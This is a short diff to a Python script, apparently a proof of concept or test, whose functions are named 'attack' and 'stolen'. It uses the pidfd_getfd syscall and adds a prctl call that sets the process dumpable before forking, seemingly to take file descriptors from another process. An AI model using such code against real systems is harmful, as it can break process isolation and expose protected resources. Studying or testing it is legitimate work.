@@ -9,6 +9,7 @@ import os
 import signal
 
 PIDFD_GETFD = 438
+PR_SET_DUMPABLE = 4  # who has changed its user is closed to itself, until it says otherwise
 libc = ctypes.CDLL(None, use_errno=True)
 
 
@@ -23,6 +24,7 @@ def stolen(pid):
 
 
 def attack():
+    libc.prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)
     child = os.fork()
     if child == 0:
         signal.pause()
